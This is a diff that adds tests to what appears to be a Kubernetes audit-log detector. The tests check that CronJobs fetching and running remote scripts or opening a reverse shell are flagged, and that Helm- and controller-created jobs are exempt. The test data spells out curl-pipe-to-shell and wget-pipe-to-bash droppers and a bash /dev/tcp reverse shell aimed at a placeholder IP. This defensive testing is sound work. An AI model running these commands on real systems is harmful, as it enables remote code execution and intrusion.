@@ -259,3 +259,41 @@ def test_google_managed_service_agents_on_gke_are_the_platform() -> None:
     assert findings(*both(robot), *both(addon), *both(workload)) == [
         ("k8s.escalation_role", "medium", "agent"),
         ("k8s.nodeport_service", "low", "config/s")]
+
+
+def cronjob(command: list[str], *, verb: str = "create", user: str = PERSON,
+            **metadata: Any) -> dict:
+    job = {"spec": {"template": {"spec": {"containers": [
+        {"name": "job", "image": "alpine", "command": command[:2], "args": command[2:]}]}}}}
+    return request(verb, "cronjobs", name="sync", user=user, body={
+        "metadata": {"name": "sync", **metadata},
+        "spec": {"schedule": "*/5 * * * *", "jobTemplate": job}})
+
+
+def test_cronjob_that_downloads_and_runs_code_or_opens_a_remote_shell() -> None:
+    dropper = ["/bin/sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"]
+    reverse = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
+    backup = ["/bin/sh", "-c", "pg_dump app | gzip | aws s3 cp - s3://backups/app.gz"]
+    notify = ["sh", "-c", "curl -fsS -X POST http://reports.internal/run && echo done"]
+    assert findings(cronjob(dropper), cronjob(reverse, verb="patch"), cronjob(backup),
+                    cronjob(notify)) == [
+        ("k8s.cronjob_dropper", "high", "default/sync"),
+        ("k8s.cronjob_dropper", "high", "default/sync")]
+
+
+def test_cronjob_dropper_from_the_platform_or_a_chart_is_not_judged() -> None:
+    dropper = ["/bin/sh", "-c", "wget -qO- http://203.0.113.9/m | bash"]
+    chart = cronjob(dropper, labels={"app.kubernetes.io/managed-by": "Helm"})
+    controller = cronjob(dropper, user="system:kube-controller-manager")
+    assert findings(chart, controller) == []
+
+
+def test_cronjob_check_never_raises_whatever_field_has_an_odd_type() -> None:
+    positive = cronjob(["/bin/sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"],
+                       labels={"team": "ops"})
+    body = {k: v for k, v in positive.items() if k in ("requestObject", "objectRef")}
+    count = 0
+    for changed in variants(body):
+        assert_no_internal_error({**positive, **changed, "auditID": f"c{count}"})
+        count += 1
+    assert count > 20
